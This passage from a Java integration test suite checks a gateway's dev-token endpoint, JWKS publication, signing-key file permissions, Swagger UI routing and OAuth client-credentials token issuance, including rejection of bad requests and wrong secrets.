        http.post().uri("/auth/dev-token").contentType(MediaType.APPLICATION_JSON)
            .bodyValue(Map.of(
                "sub", "group-inspector", "roles", List.of("SUPERIOR_COMPANY"), "org", "group-1",
                "groupEnterprises", List.of("ent-7", "ent-8")))
            .exchange()
            .expectStatus().isOk()
            .expectBody(new ParameterizedTypeReference<Map<String, Object>>() {})
            .returnResult().getResponseBody();

    JWTClaimsSet claims = SignedJWT.parse((String) response.get("access_token")).getJWTClaimsSet();
    assertThat(claims.getStringListClaim("groupEnterprises")).containsExactly("ent-7", "ent-8");
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(delimiter = '|', value = {
    "{}                                                        | sub,roles",
    "{\"sub\":\"u\",\"roles\":[]}                              | roles",
    "{\"sub\":\" \",\"roles\":[\"ADMIN\"]}                     | sub",
    "{\"sub\":\"u\",\"roles\":[\"ADMIN\",\"KING\"]}            | roles[1]",
    "{\"sub\":\"u\",\"roles\":[\"ENTERPRISE\"]}                | enterprise",
    "{\"sub\":\"u\",\"roles\":[\"TOWN_AGENCY\"],\"towns\":[]}  | towns",
    "{\"sub\":\"u\",\"roles\":[\"SUPERIOR_COMPANY\"]}          | groupEnterprises",
    "{\"roles\":[\"TOWN_AGENCY\",\"ENTERPRISE\"]}              | sub,enterprise,towns"
  })
  void badDevTokenRequest_is400Problem_namingEachBadField(String body, String fields) {
    assertProblem(
            http.post().uri("/auth/dev-token").contentType(MediaType.APPLICATION_JSON).bodyValue(body).exchange(),
            400, "invalid-request", "/auth/dev-token")
        .jsonPath("$.errors[*].field").value(f -> assertThat(f).isEqualTo(List.of(fields.split(","))))
        .jsonPath("$.errors[*].message").value(m -> assertThat((List<?>) m).allSatisfy(s -> assertThat(s).asString().isNotBlank()));
  }

  @Test
  void devTokenRequestThatIsNotJson_is400Problem() {
    assertProblem(
        http.post().uri("/auth/dev-token").contentType(MediaType.APPLICATION_JSON).bodyValue("{\"sub\": ").exchange(),
        400, "invalid-request", "/auth/dev-token");
  }

  @Test
  void jwks_publishesThePublicSigningKeyOnly() throws ParseException {
    String body = http.get().uri("/auth/jwks.json").exchange()
        .expectStatus().isOk()
        .expectHeader().contentTypeCompatibleWith(MediaType.APPLICATION_JSON)
        .expectBody(String.class).returnResult().getResponseBody();

    JWKSet set = JWKSet.parse(body);
    assertThat(set.getKeys()).hasSize(1);
    RSAKey published = set.getKeys().get(0).toRSAKey();
    assertThat(published.isPrivate()).isFalse();
    assertThat(body).doesNotContain("\"d\"", "\"p\"", "\"q\"");
    assertThat(published.getKeyID()).isEqualTo(signingKey().getKeyID());
    assertThat(published.getModulus()).isEqualTo(signingKey().getModulus());
    assertThat(published.size()).isEqualTo(2048);
  }

  @Test
  void signingKeyFile_isReadableByItsOwnerOnly() throws IOException {
    assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(keyFile()))).isEqualTo("rw-------");
  }

  // --- API documentation ---------------------------------------------------------------------

  @Test
  void swaggerUi_listsEveryServicesApiDocument() {
    http.get().uri("/v3/api-docs/gateway/swagger-config").exchange()
        .expectStatus().isOk()
        .expectBody()
        .jsonPath("$.urls[*].name").value(names -> assertThat(((List<?>) names).stream().map(String::valueOf).toList())
            .containsExactlyInAnyOrder("hazard-service", "workflow-service", "reporting-service"))
        .jsonPath("$.urls[?(@.name == 'hazard-service')].url").isEqualTo("/v3/api-docs/hazard")
        .jsonPath("$.urls[?(@.name == 'workflow-service')].url").isEqualTo("/v3/api-docs/workflow")
        .jsonPath("$.urls[?(@.name == 'reporting-service')].url").isEqualTo("/v3/api-docs/reporting");
  }

  @ParameterizedTest
  @ValueSource(strings = {"hazard", "workflow", "reporting"})
  void eachServicesApiDocument_isRoutedToIt_openInTheLocalProfile(String service) {
    http.get().uri("/v3/api-docs/" + service).exchange()
        .expectStatus().isOk()
        .expectBody().jsonPath("$.service").isEqualTo(service).jsonPath("$.path").isEqualTo("/v3/api-docs");

    StubService.Received received = stub(service).requestTo("/v3/api-docs").orElseThrow();
    assertThat(received.headers().getFirst(HttpHeaders.HOST)).as("the gateway's host, for the document's server url")
        .startsWith("localhost:");
  }

  @Test
  void swaggerUi_isServed_andMayLoadItsOwnScriptsAndStyles() {
    String page = http.get().uri("/webjars/swagger-ui/index.html").exchange()
        .expectStatus().isOk()
        .expectHeader().value("Content-Security-Policy", csp -> assertThat(csp).contains("default-src 'self'"))
        .expectBody(String.class).returnResult().getResponseBody();
    assertThat(page).contains("swagger-ui");
    http.get().uri("/swagger-ui.html").exchange().expectStatus().is3xxRedirection();
  }

  // --- client credentials --------------------------------------------------------------------

  @Test
  void clientCredentials_withHttpBasic_issueTheClientsConfiguredClaims() throws ParseException, JOSEException {
    Map<String, Object> response =
        http.post().uri("/auth/token")
            .headers(h -> h.setBasicAuth("xigang-office-system", "xigang-office-system-secret"))
            .contentType(MediaType.APPLICATION_FORM_URLENCODED)
            .body(BodyInserters.fromFormData("grant_type", "client_credentials"))
            .exchange()
            .expectStatus().isOk()
            .expectHeader().cacheControl(CacheControl.noStore())
            .expectBody(new ParameterizedTypeReference<Map<String, Object>>() {})
            .returnResult().getResponseBody();

    assertThat(response).containsEntry("token_type", "Bearer").containsEntry("expires_in", 3600);
    String token = (String) response.get("access_token");
    SignedJWT jwt = SignedJWT.parse(token);
    JWTClaimsSet claims = jwt.getJWTClaimsSet();
    assertThat(jwt.verify(new RSASSAVerifier(publishedKey()))).isTrue();
    assertThat(claims.getSubject()).isEqualTo("xigang-office-system");
    assertThat(claims.getStringClaim("client_id")).isEqualTo("xigang-office-system");
    assertThat(claims.getStringListClaim("roles")).containsExactly("TOWN_AGENCY");
    assertThat(claims.getStringClaim("org")).isEqualTo("xigang-office");
    assertThat(claims.getStringListClaim("towns")).containsExactly("370406001");
    assertThat(claims.getAudience()).containsExactly("shouwei");

    String path = "/api/hazards/" + UUID.randomUUID();
    http.get().uri(path).headers(h -> h.setBearerAuth(token)).exchange().expectStatus().isOk();
    assertThat(HAZARD.requestTo(path).orElseThrow().headers().getFirst(HttpHeaders.AUTHORIZATION))
        .isEqualTo("Bearer " + token);
  }

  @Test
  void clientCredentials_inTheBody_issueAnEnterpriseSystemsToken() throws ParseException {
    Map<String, Object> response =
        http.post().uri("/auth/token")
            .contentType(MediaType.APPLICATION_FORM_URLENCODED)
            .body(BodyInserters.fromFormData("grant_type", "client_credentials")
                .with("client_id", "shanting-mining-system").with("client_secret", "shanting-mining-system-secret"))
            .exchange()
            .expectStatus().isOk()
            .expectBody(new ParameterizedTypeReference<Map<String, Object>>() {})
            .returnResult().getResponseBody();

    JWTClaimsSet claims = SignedJWT.parse((String) response.get("access_token")).getJWTClaimsSet();
    assertThat(claims.getStringListClaim("roles")).containsExactly("ENTERPRISE");
    assertThat(claims.getStringClaim("enterprise")).isEqualTo("ent-1");
    assertThat(claims.getStringClaim("client_id")).isEqualTo("shanting-mining-system");
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource({
    "wrong secret,     workflow-service,   shanting-mining-system-secret",
    "unknown client,   no-such-system,     no-such-system-secret",
    "empty secret,     workflow-service,   ''"
  })
  void clientCredentials_ofNoConfiguredClient_are401Problem(String why, String client, String secret) {
    assertProblem(
            http.post().uri("/auth/token").headers(h -> h.setBasicAuth(client, secret))
                .contentType(MediaType.APPLICATION_FORM_URLENCODED)
                .body(BodyInserters.fromFormData("grant_type", "client_credentials")).exchange(),
            401, "unauthenticated", "/auth/token")
        .jsonPath("$.error").isEqualTo("invalid_client")
        .jsonPath("$.access_token").doesNotExist();
    http.post().uri("/auth/token").headers(h -> h.setBasicAuth(client, secret))
        .contentType(MediaType.APPLICATION_FORM_URLENCODED)
        .body(BodyInserters.fromFormData("grant_type", "client_credentials")).exchange()
        .expectHeader().valueEquals(HttpHeaders.WWW_AUTHENTICATE, "Basic realm=\"shouwei\"");
  }

  @Test
  void clientCredentials_withoutAnyClient_are401Problem() {
    assertProblem(http.post().uri("/auth/token").contentType(MediaType.APPLICATION_FORM_URLENCODED)
            .body(BodyInserters.fromFormData("grant_type", "client_credentials")).exchange(),
        401, "unauthenticated", "/auth/token").jsonPath("$.error").isEqualTo("invalid_client");
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource({
    "grant_type=password,                                                       unsupported_grant_type",
    "scope=all,                                                                 invalid_request",
    "grant_type=client_credentials&client_id=workflow-service&client_secret=x,  invalid_request"
  })
  void badTokenRequest_is400Problem_withItsOAuthError(String form, String error) {
    assertProblem(http.post().uri("/auth/token").headers(h -> h.setBasicAuth("workflow-service", "workflow-service-secret"))
            .contentType(MediaType.APPLICATION_FORM_URLENCODED).bodyValue(form).exchange(),
        400, "invalid-request", "/auth/token").jsonPath("$.error").isEqualTo(error);
  }

  // --- helpers -------------------------------------------------------------------------------

  interface TokenFactory {
    String create(RSAKey gatewayKey);
  }

  private String token(String role) {
    Map<String, Object> request = Map.of(
        "sub", "user-" + role.toLowerCase(), "roles", List.of(role), "org", "org-1",
        "towns", List.of("town-1"), "enterprise", "ent-1", "groupEnterprises", List.of("ent-1"));
    Map<?, ?> response = http.post().uri("/auth/dev-token").contentType(MediaType.APPLICATION_JSON)
        .bodyValue(request).exchange()
        .expectStatus().isOk()
        .expectBody(Map.class).returnResult().getResponseBody();
    return (String) response.get("access_token");
  }

  private static JWTClaimsSet.Builder claims(Instant issuedAt, Duration ttl) {
    return DevTokens.claims("u-1", List.of("ADMIN"), "district", List.of(), null, issuedAt, ttl);
  }

  private static StubService stub(String service) {
    return switch (service) {
      case "hazard" -> HAZARD;
      case "workflow" -> WORKFLOW;
      case "reporting" -> REPORTING;
      default -> throw new IllegalArgumentException(service);
    };
  }

  private static Path keyFile() {
    return DATA_DIR.resolve("gateway/dev-signing-key.jwk");
  }

  private static RSAKey signingKey() {
    return TestTokens.readKey(keyFile());
  }

  private RSAKey publishedKey() throws ParseException {
    String body = http.get().uri("/auth/jwks.json").exchange().expectBody(String.class).returnResult().getResponseBody();
    return JWKSet.parse(body).getKeys().get(0).toRSAKey();
  }

  private static Path tempDir() {
    try {
      return Files.createTempDirectory("shouwei-gateway-it");
    } catch (IOException e) {
      throw new IllegalStateException(e);
    }
  }
}
